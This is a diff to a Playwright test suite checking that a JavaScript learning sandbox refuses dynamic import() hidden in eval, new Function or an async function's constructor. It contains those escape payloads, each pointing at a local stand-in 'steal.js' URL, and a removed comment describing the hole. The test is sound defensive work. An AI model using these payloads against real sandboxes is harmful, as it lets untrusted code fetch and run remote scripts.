@@ -47,13 +47,9 @@ test.describe("the sandbox's boundary", () => {
     // The fixture fails the test if any request left 127.0.0.1.
   });
 
-  // FIXME (issue 9, open): code that hides import() from the transpiler in eval'd text (new Function, or an
-  // async function's constructor) reaches the network: Chromium fetches the URL although the run worker's script
-  // is served with script-src 'self' 'unsafe-eval' (seen here: a GET to 127.0.0.1:9, "Failed to fetch dynamically
-  // imported module"). The fix is not small: lockDown() must take away every eval door (eval, Function and the
-  // async and generator function constructors, after capturing the one the worker uses) without breaking the
-  // runtime or zod in the worker, or the worker must start from a policy that Chromium enforces on import().
-  test.fixme("an import() hidden from the transpiler in eval'd code is refused, and nothing is fetched", async ({
+  // Code from text would pass by the transpiler (which turns import() into the sandbox's require) and fetch:
+  // lockDown() takes away eval, Function and every function kind's constructor.
+  test("an import() hidden from the transpiler in eval'd code is refused, and nothing is fetched", async ({
     page,
   }) => {
     const requests: string[] = [];
@@ -61,11 +57,23 @@ test.describe("the sandbox's boundary", () => {
       if (request.url().includes("/steal")) requests.push(request.url());
     });
     // Same host, another port: a URL the fixture lets through, so only the sandbox can stop it.
-    await runWithPrelude(
-      page,
-      `void new Function("return import('http://127.0.0.1:9/steal.js')")().catch((error: Error) => { throw new Error("refused: " + error.message); });`,
+    await runWithPrelude(page, `void new Function("return import('http://127.0.0.1:9/steal.js')")();`);
+    await expect(page.locator(".run-error")).toContainText(
+      `storage.ts:${PRELUDE_LINE}: building code from text (eval, new Function) is not available to learner code`,
     );
-    await expect(page.locator(".run-error")).toContainText("panic: refused: ");
+    // Nor through the other doors: an async function's constructor and the global eval.
+    for (const [index, door] of [
+      `void (async () => {}).constructor("return import('http://127.0.0.1:9/steal.js')")();`,
+      `void eval("import('http://127.0.0.1:9/steal.js')");`,
+    ].entries()) {
+      await pasteIntoEditor(
+        page,
+        `// door ${index}\n${door}\nexport class StorageService {}\n`,
+        `// door ${index}`,
+      );
+      await page.getByRole("button", { name: "Run", exact: true }).click();
+      await expect(page.locator(".run-error")).toContainText(`storage.ts:2: building code from text`);
+    }
     expect(requests).toEqual([]);
   });
 
